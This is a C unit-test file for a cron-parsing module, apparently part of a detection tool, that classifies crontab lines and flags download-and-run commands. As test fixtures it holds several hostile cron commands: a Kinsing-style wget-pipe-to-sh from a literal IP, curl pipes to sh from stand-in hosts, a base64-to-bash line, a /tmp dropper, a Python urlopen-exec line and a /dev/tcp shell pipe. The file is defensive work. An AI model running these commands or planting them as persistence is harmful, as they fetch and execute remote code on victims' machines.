/*
 * test_cron_parse.c - collect/cron_parse.c: crontab lines in the three
 * formats (the lines real droppers write, and the ones Debian ships),
 * schedules and their intervals, the commands' download-and-run shapes,
 * and what a file in a cron directory is.
 */
#include "collect/cron_parse.h"
#include "testlib.h"

/* Parse a heap copy of exactly the text (ASan sees an over-read). */
static void
line(const char *text, enum cron_format fmt, struct cron_line *l, char **keep)
{
	size_t n = strlen(text);
	char *b = xmalloc(n ? n : 1);

	memcpy(b, text, n);
	cronparse_line(b, n, fmt, l);
	*keep = b;
}

static void
cmd(const char *text, struct cron_cmd *c)
{
	size_t n = strlen(text);
	char *b = xmalloc(n ? n : 1);

	memcpy(b, text, n);
	cronparse_command(b, n, c);
	free(b);
}

static void
assert_text(const char *p, size_t n, const char *want)
{
	assert_int_equal(n, strlen(want));
	assert_memory_equal(p, want, n);
}

static void
test_user_lines(void **state)
{
	struct cron_line l;
	char *b;

	(void)state;
	/* Kinsing's line, as its install.sh writes it */
	line("* * * * * wget -q -O - http://195.3.146.118/spr.sh | sh > "
	    "/dev/null 2>&1", CRON_USER, &l, &b);
	assert_int_equal(l.kind, CRONL_JOB);
	assert_int_equal(l.interval, 1);
	assert_text(l.sched, l.schedlen, "* * * * *");
	assert_text(l.cmd, l.cmdlen, "wget -q -O - http://195.3.146.118/"
	    "spr.sh | sh > /dev/null 2>&1");
	assert_null(l.user);
	free(b);
	/* acme.sh's line: daily, from a dot-directory */
	line("38 0 * * * \"/root/.acme.sh\"/acme.sh --cron --home "
	    "\"/root/.acme.sh\" > /dev/null", CRON_USER, &l, &b);
	assert_int_equal(l.kind, CRONL_JOB);
	assert_int_equal(l.interval, CRON_RARE);
	free(b);
	line("@reboot /root/.configrc/a/upd>/dev/null 2>&1", CRON_USER, &l,
	    &b);
	assert_int_equal(l.kind, CRONL_JOB);
	assert_int_equal(l.interval, CRON_AT_REBOOT);
	assert_text(l.sched, l.schedlen, "@reboot");
	free(b);
	line("\t# m h dom mon dow command", CRON_USER, &l, &b);
	assert_int_equal(l.kind, CRONL_BLANK);
	free(b);
	line("   ", CRON_USER, &l, &b);
	assert_int_equal(l.kind, CRONL_BLANK);
	free(b);
	line("MAILTO=\"\"", CRON_USER, &l, &b);
	assert_int_equal(l.kind, CRONL_ENV);
	free(b);
	line("PATH = /usr/bin:/bin", CRON_USER, &l, &b);
	assert_int_equal(l.kind, CRONL_ENV);
	free(b);
	/* too few fields, bad characters, unknown nickname, no command */
	line("* * * *", CRON_USER, &l, &b);
	assert_int_equal(l.kind, CRONL_INVALID);
	free(b);
	line("* * * * ? x", CRON_USER, &l, &b);
	assert_int_equal(l.kind, CRONL_INVALID);
	free(b);
	line("@sometimes x", CRON_USER, &l, &b);
	assert_int_equal(l.kind, CRONL_INVALID);
	free(b);
	line("* * * * *   ", CRON_USER, &l, &b);
	assert_int_equal(l.kind, CRONL_INVALID);
	free(b);
	line("hello world", CRON_USER, &l, &b);
	assert_int_equal(l.kind, CRONL_INVALID);
	free(b);
}

static void
test_system_and_anacron(void **state)
{
	struct cron_line l;
	char *b;

	(void)state;
	/* hadooken's /etc/cron.d/collect */
	line("*/10 * * * * root /tmp/.bot/crond", CRON_SYSTEM, &l, &b);
	assert_int_equal(l.kind, CRONL_JOB);
	assert_int_equal(l.interval, 10);
	assert_text(l.user, l.userlen, "root");
	assert_text(l.cmd, l.cmdlen, "/tmp/.bot/crond");
	free(b);
	/* Debian's /etc/crontab */
	line("17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly",
	    CRON_SYSTEM, &l, &b);
	assert_int_equal(l.interval, 60);
	assert_text(l.user, l.userlen, "root");
	free(b);
	line("47 6\t* * 7\troot\ttest -x /usr/sbin/anacron || ( cd / && "
	    "run-parts --report /etc/cron.weekly )\r", CRON_SYSTEM, &l, &b);
	assert_int_equal(l.interval, CRON_RARE);
	assert_int_equal(l.cmd[l.cmdlen - 1], ')');
	free(b);
	/* no user field */
	line("* * * * * ", CRON_SYSTEM, &l, &b);
	assert_int_equal(l.kind, CRONL_INVALID);
	free(b);
	line("@reboot root /usr/bin/x", CRON_SYSTEM, &l, &b);
	assert_int_equal(l.interval, CRON_AT_REBOOT);
	assert_text(l.user, l.userlen, "root");
	free(b);
	/* anacrontab */
	line("1\t5\tcron.daily\trun-parts --report /etc/cron.daily",
	    CRON_ANACRON, &l, &b);
	assert_int_equal(l.kind, CRONL_JOB);
	assert_int_equal(l.interval, CRON_RARE);
	assert_text(l.cmd, l.cmdlen, "run-parts --report /etc/cron.daily");
	free(b);
	line("@monthly 15 cron.monthly run-parts /etc/cron.monthly",
	    CRON_ANACRON, &l, &b);
	assert_int_equal(l.kind, CRONL_JOB);
	free(b);
	line("x 5 id cmd", CRON_ANACRON, &l, &b);
	assert_int_equal(l.kind, CRONL_INVALID);
	free(b);
}

/* The shortest gap between firings, however the fields are written. */
static void
test_intervals(void **state)
{
	static const struct {
		const char *sched;
		uint32_t interval;
	} t[] = {
		{ "* * * * *", 1 }, { "*/1 * * * *", 1 }, { "*/5 * * * *", 5 },
		{ "0,30 * * * *", 30 }, { "0-59/2 * * * *", 2 },
		{ "5,50 * * * *", 15 },       /* 50 -> 5 across the hour */
		{ "0 * * * *", 60 }, { "0 */2 * * *", 120 },
		{ "0 0,12 * * *", 720 }, { "0 3 * * *", CRON_RARE },
		{ "0 3 * * mon", CRON_RARE }, { "15 14 1 * *", CRON_RARE },
		{ "*/0 * * * *", 60 },        /* a zero step fires once */
		{ "99 * * * *", 60 },         /* out of range: as rare */
		{ "1-0 * * * *", 60 },
	};
	struct cron_line l;

	(void)state;
	for (size_t i = 0; i < TL_NELEM(t); i++) {
		char text[64], *b;

		snprintf(text, sizeof(text), "%s /bin/x", t[i].sched);
		line(text, CRON_USER, &l, &b);
		assert_int_equal(l.kind, CRONL_JOB);
		if (l.interval != t[i].interval)
			fail_msg("'%s': interval %u, expected %u", t[i].sched,
			    l.interval, t[i].interval);
		free(b);
	}
}

/* Binary noise (a Redis dump's) is invalid; the line cron would still
 * run between the noise is a job. */
static void
test_noise(void **state)
{
	static const char rdb[] = "REDIS0009\xfa\tredis-ver\x05" "5.0.7";
	struct cron_line l;
	char *b = xmalloc(sizeof(rdb) - 1);

	(void)state;
	memcpy(b, rdb, sizeof(rdb) - 1);
	cronparse_line(b, sizeof(rdb) - 1, CRON_USER, &l);
	assert_int_equal(l.kind, CRONL_INVALID);
	free(b);
	line("*/1 * * * * curl -fsSL http://x.example/b.sh | sh", CRON_USER,
	    &l, &b);
	assert_int_equal(l.kind, CRONL_JOB);
	free(b);
	cronparse_line("", 0, CRON_USER, &l);
	assert_int_equal(l.kind, CRONL_BLANK);
}

static void
test_commands(void **state)
{
	struct cron_cmd c;

	(void)state;
	cmd("wget -q -O - http://195.3.146.118/spr.sh | sh > /dev/null 2>&1",
	    &c);
	assert_int_equal(c.flags, CMD_DOWNLOAD | CMD_SHELL_PIPE | CMD_URL);
	assert_string_equal(c.url, "http://195.3.146.118/spr.sh");
	assert_string_equal(c.path, "");
	cmd("(curl -fsSL http://a.example/x||wget -q -O- http://a.example/x)|"
	    "/bin/bash", &c);
	assert_true(c.flags & CMD_DOWNLOAD);
	assert_true(c.flags & CMD_SHELL_PIPE);
	cmd("echo Y3VybCBodHRwOi8veC9hLnNo | base64 -d | bash", &c);
	assert_int_equal(c.flags, CMD_DECODE | CMD_SHELL_PIPE);
	cmd("cd /tmp; wget 1.2.3.4:8080/x -O .k; chmod +x .k; ./.k", &c);
	assert_true(c.flags & CMD_DOWNLOAD);
	assert_true(c.flags & CMD_EXEC_FETCHED);
	assert_true(c.flags & CMD_WRITABLE);
	assert_string_equal(c.path, "/tmp");
	assert_string_equal(c.url, "1.2.3.4:8080/x");
	cmd("/tmp/.bot/crond", &c);
	assert_int_equal(c.flags, CMD_WRITABLE | CMD_HIDDEN);
	assert_string_equal(c.path, "/tmp/.bot/crond");
	cmd("\"/root/.acme.sh\"/acme.sh --cron --home \"/root/.acme.sh\" > "
	    "/dev/null", &c);
	assert_int_equal(c.flags, CMD_HIDDEN);
	assert_string_equal(c.path, "/root/.acme.sh");
	cmd("/usr/bin/php /var/www/html/cron.php > /tmp/cron.log 2>&1", &c);
	assert_int_equal(c.flags, 0);  /* a log in /tmp is written, not run */
	cmd("curl -fsS -m 10 --retry 5 -o /dev/null https://hc-ping.com/"
	    "abc", &c);
	assert_int_equal(c.flags, CMD_DOWNLOAD | CMD_URL);
	cmd("test -x /usr/sbin/anacron || ( cd / && run-parts --report "
	    "/etc/cron.daily )", &c);
	assert_int_equal(c.flags, 0);
	cmd("python3 -c 'import urllib.request as u;exec(u.urlopen(\"http://"
	    "x/p\").read())'", &c);
	assert_true(c.flags & CMD_INLINE);
	assert_true(c.flags & CMD_DOWNLOAD);
	cmd("exec 3<>/dev/tcp/10.0.0.1/80; cat <&3 | sh", &c);
	assert_true(c.flags & CMD_DOWNLOAD);
	assert_true(c.flags & CMD_SHELL_PIPE);
	/* words inside other words are not tools */
	cmd("/usr/local/bin/curlftpfs-check; echo wgetting", &c);
	assert_int_equal(c.flags, 0);
	/* || is not a pipe; ../ and ./ are not hidden */
	cmd("true || sh ../x ./y", &c);
	assert_int_equal(c.flags, 0);
	cmd("", &c);
	assert_int_equal(c.flags, 0);
	/* only programs count, not paths given as arguments */
	cmd("find /tmp -type f -mtime +7 -delete", &c);
	assert_int_equal(c.flags, 0);
	cmd("nohup /dev/shm/kdevtmpfsi >/dev/null 2>&1 &", &c);
	assert_int_equal(c.flags, CMD_WRITABLE);
	assert_string_equal(c.path, "/dev/shm/kdevtmpfsi");
	cmd("cd /var/tmp/.x && ./run", &c);
	assert_int_equal(c.flags, CMD_WRITABLE | CMD_HIDDEN);
	assert_string_equal(c.path, "/var/tmp/.x");
	cmd("cd /srv/app && ./run.sh", &c);
	assert_int_equal(c.flags, 0);
	cmd("LANG=C sudo /usr/bin/.sshd -q", &c);
	assert_int_equal(c.flags, CMD_HIDDEN);
	assert_string_equal(c.path, "/usr/bin/.sshd");
	cmd("rsync -a /home/u/.config/ /backup/", &c);
	assert_int_equal(c.flags, 0);
}

static void
test_magic(void **state)
{
	char big[8192];

	(void)state;
	assert_int_equal(cronparse_magic("REDIS0009\xfa\t", 11), CRONM_REDIS);
	assert_int_equal(cronparse_magic("REDIS", 5), CRONM_TEXT);
	assert_int_equal(cronparse_magic("REDISxxxx\n", 10), CRONM_TEXT);
	assert_int_equal(cronparse_magic("\x7f" "ELF\x02\x01", 6), CRONM_ELF);
	assert_int_equal(cronparse_magic("#!/bin/sh\nrun-parts\n", 20),
	    CRONM_TEXT);
	assert_int_equal(cronparse_magic("ab\0cd", 5), CRONM_BINARY);
	assert_int_equal(cronparse_magic("", 0), CRONM_TEXT);
	memset(big, 'a', sizeof(big));
	for (size_t i = 0; i < 4096; i += 8)
		big[i] = '\x01';
	assert_int_equal(cronparse_magic(big, sizeof(big)), CRONM_BINARY);
	/* UTF-8 text is text */
	assert_int_equal(cronparse_magic("# t\xc3\xa2" "che\n", 9),
	    CRONM_TEXT);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_user_lines),
		cmocka_unit_test(test_system_and_anacron),
		cmocka_unit_test(test_intervals),
		cmocka_unit_test(test_noise),
		cmocka_unit_test(test_commands),
		cmocka_unit_test(test_magic),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
